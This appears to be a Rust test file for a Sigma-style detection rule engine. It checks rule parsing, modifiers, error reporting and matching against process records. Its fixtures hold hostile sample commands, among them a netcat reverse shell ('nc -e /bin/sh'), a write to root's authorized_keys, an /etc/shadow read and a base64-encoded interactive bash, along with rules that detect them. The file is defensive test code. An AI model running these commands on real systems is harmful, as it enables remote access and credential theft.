//! Files of rules as they come: broken, foreign, too large, doubled. Each costs itself and nothing beside it.
#![expect(clippy::unwrap_used, reason = "a failure to set up is a failed test")]

use cordon_behavior::story::Story;
use cordon_rules::{About, Level, ProblemKind, RuleSet, RuleSetBuilder};
use proptest::prelude::*;

fn build(files: &[(&str, &str)]) -> RuleSet {
    let mut builder = RuleSetBuilder::new();
    for (name, text) in files {
        builder.file(name, text.as_bytes());
    }
    builder.build()
}

fn rule(id: &str, detection: &str) -> String {
    format!(
        "title: {id}\nid: {id}\nlevel: high\ntags: [attack.execution, attack.t1059.004, cve.2024.1]\n\
         logsource: {{product: linux, category: process_creation}}\ndetection:\n{detection}\n"
    )
}

fn story(json: &str) -> Story {
    Story::from_json(json.as_bytes()).unwrap()
}

/// What a rule with this detection makes of a process.
fn check(detection: &str, json: &str) -> bool {
    let set = build(&[("x.yml", &rule("x", detection))]);
    assert_eq!(set.problems(), &[], "{detection}");
    !set.matches(&story(json)).found.is_empty()
}

/// Why a rule with this detection does not count.
fn why(detection: &str) -> (ProblemKind, usize, String) {
    let set = build(&[("x.yml", &rule("x", detection))]);
    let [problem] = set.problems() else {
        panic!("{detection}: {:?}", set.problems());
    };
    assert!(set.rules().is_empty());
    (problem.kind, problem.line, problem.why.clone())
}

const BASH: &str = r#"{"id":"1","process":{"exe":"/usr/bin/Bash","argv":["bash","-c","Id; uname"],"uid":33,"cwd":""},
    "ancestors":[{"exe":"/usr/sbin/nginx"}]}"#;

#[test]
fn modifiers_mean_what_the_specification_says() {
    for (detection, wanted) in [
        ("  s: {Image: /usr/bin/bash}\n  condition: s", true),
        ("  s: {Image|cased: /usr/bin/bash}\n  condition: s", false),
        ("  s: {Image|cased: /usr/bin/Bash}\n  condition: s", true),
        ("  s: {Image: '*/bash'}\n  condition: s", true),
        ("  s: {Image: '/usr/*/b?sh'}\n  condition: s", true),
        ("  s: {Image: '/usr/*/b?h'}\n  condition: s", false),
        ("  s: {Image|endswith: '/b*sh'}\n  condition: s", true),
        (
            "  s: {Image|startswith: /usr, CommandLine|contains: uname}\n  condition: s",
            true,
        ),
        (
            "  s: {CommandLine|contains|all: [id, uname]}\n  condition: s",
            true,
        ),
        (
            "  s: {CommandLine|contains|all: [id, whoami]}\n  condition: s",
            false,
        ),
        (
            "  s: {CommandLine|contains: [id, whoami]}\n  condition: s",
            true,
        ),
        ("  s: {CommandLine|re: 'u\\w+e$'}\n  condition: s", true),
        ("  s: {CommandLine|re: 'UNAME'}\n  condition: s", false),
        ("  s: {CommandLine|re|i: 'UNAME'}\n  condition: s", true),
        ("  s: {User: 33}\n  condition: s", true),
        ("  s: {User: root}\n  condition: s", false),
        ("  s: {User|gte: 33}\n  condition: s", true),
        ("  s: {User|lt: 33}\n  condition: s", false),
        ("  s: {ParentCommandLine: null}\n  condition: s", true),
        ("  s: {ParentImage: null}\n  condition: s", false),
        (
            "  s: {ParentCommandLine|exists: true}\n  condition: s",
            false,
        ),
        ("  s: {CurrentDirectory: ''}\n  condition: s", false),
        ("  s: {CommandLine: '*'}\n  condition: s", true),
        ("  s: [{Image: /x}, {User: 33}]\n  condition: s", true),
        (
            "  s: {Image: /x}\n  t: {User: 33}\n  condition: [s, t]",
            true,
        ),
        (
            "  s: {User: 33}\n  f: {ParentImage|endswith: /nginx}\n  condition: s and not f",
            false,
        ),
    ] {
        assert_eq!(check(detection, BASH), wanted, "{detection}");
    }
    let encoded =
        r#"{"id":"1","process":{"exe":"/bin/sh","argv":["sh","echo eyAvYmluL2Jhc2ggLWkgfQ=="]}}"#;
    assert!(check(
        "  s: {CommandLine|base64offset|contains: /bin/bash}\n  condition: s",
        encoded
    ));
}

#[test]
fn what_is_not_supported_is_said_and_not_false_in_silence() {
    use ProblemKind::{Broken, Unsupported};
    for (detection, kind, wanted) in [
        (
            "  s: {Image: x}\n  condition: s | count() > 5",
            Unsupported,
            "several events",
        ),
        (
            "  s: {Image: x}\n  timeframe: 5m\n  condition: s",
            Unsupported,
            "timeframe",
        ),
        ("  s: {Hashes: x}\n  condition: s", Unsupported, "Hashes"),
        ("  s: {image: x}\n  condition: s", Unsupported, "image"),
        (
            "  s: {QueryName: x}\n  condition: s",
            Unsupported,
            "QueryName",
        ),
        (
            "  s: {Image|windash: x}\n  condition: s",
            Unsupported,
            "windash",
        ),
        (
            "  s: {Image|fieldref: x}\n  condition: s",
            Unsupported,
            "fieldref",
        ),
        (
            "  s: {Image|cntains: x}\n  condition: s",
            Unsupported,
            "cntains",
        ),
        (
            "  s: [word, other]\n  condition: s",
            Unsupported,
            "no field",
        ),
        (
            "  s: {CommandLine|re: 'a(?=b)'}\n  condition: s",
            Unsupported,
            "look-around",
        ),
        (
            "  s: {CommandLine|re: 'a('}\n  condition: s",
            Broken,
            "unclosed",
        ),
        (
            "  s: {CommandLine|re: '(a{1,1000}){1,1000}'}\n  condition: s",
            Broken,
            "size limit",
        ),
        (
            "  s: {Image|contains|endswith: x}\n  condition: s",
            Broken,
            "endswith",
        ),
        (
            "  s: {Image: {a: b}}\n  condition: s",
            Broken,
            "single text",
        ),
        ("  s: {Image: []}\n  condition: s", Broken, "no values"),
        ("  s: {}\n  condition: s", Broken, "empty"),
        ("  s: {Image: x}\n  condition: t", Broken, "no selection"),
        ("  s: {Image: x}", Broken, "condition is missing"),
    ] {
        let (found, line, why) = why(detection);
        assert!(
            found == kind && why.contains(wanted),
            "{detection}: {found:?} {why}"
        );
        assert!(line >= 1, "{detection}");
    }
}

#[test]
fn a_broken_rule_silences_nobody() {
    let good = rule("good", "  s: {Image|endswith: /bash}\n  condition: s");
    let second = rule("second", "  s: {User: 33}\n  condition: s");
    let broken = rule("broken", "  s: {Image: [}\n  condition: s");
    let windows = good.replace("linux", "windows").replace("good", "w");
    let correlation = "title: many\nid: many\ncorrelation: {type: event_count}\n";
    let bad_level = rule("level", "  s: {User: 1}\n  condition: s").replace("high", "very");
    let text = [&good, &broken, &windows, correlation, &bad_level, &second].join("---\n");
    let mut builder = RuleSetBuilder::new();
    builder.file("a.yml", text.as_bytes());
    builder.file("b.yml", b"title: \xff");
    builder.file("c.yml", good.as_bytes());
    builder.file("d.yml", &vec![b'#'; (1 << 20) + 1]);
    builder.unreadable("e.yml", "cannot read it");
    let set = builder.build();
    let ids: Vec<&str> = set.rules().iter().map(|rule| rule.id.as_str()).collect();
    assert_eq!(ids, ["good", "second"]);
    let told: Vec<String> = set.problems().iter().map(ToString::to_string).collect();
    let told = told.join("\n");
    for wanted in [
        "a.yml, line",
        "broken: not YAML",
        "w: unsupported: logsource.product",
        "many: unsupported: a correlation",
        "level: broken: level is \"very\"",
        "b.yml, line 1: broken: the file is not UTF-8",
        "c.yml, line 1, good: duplicate: a.yml, line",
        "d.yml: broken: the file has more",
        "e.yml: broken: cannot read",
    ] {
        assert!(told.contains(wanted), "{wanted} is not in:\n{told}");
    }
    assert_eq!(set.problems().len(), 8);
    assert_eq!(set.matches(&story(BASH)).found.len(), 2);
}

#[test]
fn a_later_layer_takes_the_place_of_a_rule() {
    let mut builder = RuleSetBuilder::new();
    builder.file(
        "a.yml",
        rule("x", "  s: {User: 33}\n  condition: s").as_bytes(),
    );
    builder.next_layer();
    let milder = rule("x", "  s: {User: 34}\n  condition: s").replace("level: high", "level: low");
    builder.file("b.yml", milder.as_bytes());
    let set = builder.build();
    assert_eq!((set.problems(), set.rules().len()), (&[][..], 1));
    assert_eq!(
        (set.rules()[0].level, &*set.rules()[0].file),
        (Level::Low, "b.yml")
    );
    assert_eq!(set.rules()[0].techniques, ["T1059.004"]);
    assert!(set.matches(&story(BASH)).found.is_empty());
}

#[test]
fn children_connections_names_and_files_are_events_of_their_own() {
    let by = |category: &str, detection: &str, json: &str| {
        let text = rule("x", detection).replace("process_creation", category);
        let set = build(&[("x.yml", &text)]);
        assert_eq!(set.problems(), &[]);
        let matches = set.matches(&story(json));
        matches
            .found
            .first()
            .map(|found| (found.about, found.evidence.clone()))
    };
    let told = r#"{"id":"1","process":{"exe":"/bin/sh","argv":["sh"]},"children":[{"exe":"/bin/ls"},{"exe":"/usr/bin/id","argv":["id"]}],
        "connections":[{"direction":"out","protocol":"tcp","address":"::ffff:203.0.113.9","port":443},
                       {"direction":"listen","protocol":"tcp","address":"0.0.0.0","port":4444}],
        "dns":["A.Example."],"files":[{"op":"rename","path":"/tmp/a","to":"/etc/cron.d/a"},{"op":"read","path":"/etc/shadow"}]}"#;
    let child = by(
        "process_creation",
        "  s: {Image|endswith: /id, ParentImage: /bin/sh}\n  condition: s",
        told,
    );
    assert_eq!(child, Some((About::Child(1), "id".to_owned())));
    let out = by(
        "network_connection",
        "  s: {DestinationIp|cidr: 203.0.113.0/24, DestinationPort: 443, Initiated: true}\n  condition: s",
        told,
    );
    assert_eq!(
        out,
        Some((About::Process, "out 203.0.113.9 port 443".to_owned()))
    );
    assert_eq!(
        by(
            "network_connection",
            "  s: {DestinationPort: 4444}\n  condition: s",
            told
        ),
        None
    );
    assert!(
        by(
            "network_connection",
            "  s: {SourcePort: 4444, Cordon.Direction: listen}\n  condition: s",
            told
        )
        .is_some()
    );
    assert!(
        by(
            "dns_query",
            "  s: {QueryName|endswith: .example}\n  condition: s",
            told
        )
        .is_some()
    );
    assert!(
        by(
            "file_event",
            "  s: {TargetFilename|startswith: /etc/cron.d/, Image: /bin/sh}\n  condition: s",
            told
        )
        .is_some()
    );
    assert_eq!(
        by(
            "file_event",
            "  s: {TargetFilename: /etc/shadow}\n  condition: s",
            told
        ),
        None
    );
    assert!(
        by(
            "file_access",
            "  s: {TargetFilename: /etc/shadow}\n  condition: s",
            told
        )
        .is_some()
    );
}

#[test]
fn text_alone_is_matched_by_line_and_by_command() {
    let json = r#"{"id":"1","session":["cd /tmp","echo a | tee x; nc -e /bin/sh 192.0.2.1 1","echo k >> /root/.ssh/authorized_keys"]}"#;
    let set = build(&[(
        "x.yml",
        &rule(
            "x",
            "  s: {Image|endswith: /nc, CommandLine|startswith: nc -e}\n  condition: s",
        ),
    )]);
    let matches = set.matches(&story(json));
    assert_eq!(matches.found[0].about, About::Line(1));
    let text = rule(
        "y",
        "  s: {TargetFilename|endswith: /authorized_keys}\n  condition: s",
    )
    .replace("process_creation", "file_event");
    let set = build(&[("y.yml", &text)]);
    assert_eq!(set.matches(&story(json)).found[0].about, About::Line(2));
}

#[test]
fn a_story_without_end_is_read_as_far_as_there_is_room_and_says_so() {
    let set = RuleSetBuilder::new().embedded().build();
    let mut long = story(r#"{"id":"1","process":{"exe":"/bin/sh","argv":["sh"]}}"#);
    long.session = vec!["echo a; echo b".to_owned(); 100_000];
    assert!(set.matches(&long).is_cut);
    let mut wide = story(BASH);
    wide.process.as_mut().unwrap().argv = vec!["x".repeat(1 << 20); 9];
    assert!(set.matches(&wide).is_cut);
    let mut hostile = story(BASH);
    hostile.process.as_mut().unwrap().argv =
        vec!["\u{0}\u{1b}[2J\u{202e}".repeat(1000), "a ".repeat(100_000)];
    assert!(!set.matches(&hostile).is_cut);
}

proptest! {
    #[test]
    fn any_text_is_read_or_refused(text in "\\PC{0,400}") {
        let mut builder = RuleSetBuilder::new();
        builder.file("x.yml", text.as_bytes());
        let set = builder.build();
        prop_assert!(set.matches(&story(BASH)).found.len() <= set.rules().len());
    }

    #[test]
    fn any_detection_is_read_or_refused(
        field in "(Image|CommandLine|User)(\\|(contains|re|cidr|all|base64|exists|lt)){0,2}",
        value in "[a-z*?\\\\(\\[|/.0-9-]{0,20}",
        condition in "(s|not s|1 of s\\*|all of them|\\(s\\)|s or){1,3}",
    ) {
        let detection = format!("  s:\n    {field}: '{value}'\n  condition: {condition}");
        let set = build(&[("x.yml", &rule("x", &detection))]);
        prop_assert_eq!(set.rules().len() + set.problems().len(), 1);
        set.matches(&story(BASH));
    }

    #[test]
    fn contains_is_contains(needle in "[a-c]{1,4}", line in "[a-cA-C]{0,12}") {
        let detection = format!("  s:\n    CommandLine|contains: '{needle}'\n  condition: s");
        let json = format!(r#"{{"id":"1","process":{{"exe":"/x","argv":["{line}"]}}}}"#);
        prop_assert_eq!(check(&detection, &json), line.to_ascii_lowercase().contains(&needle));
    }
}
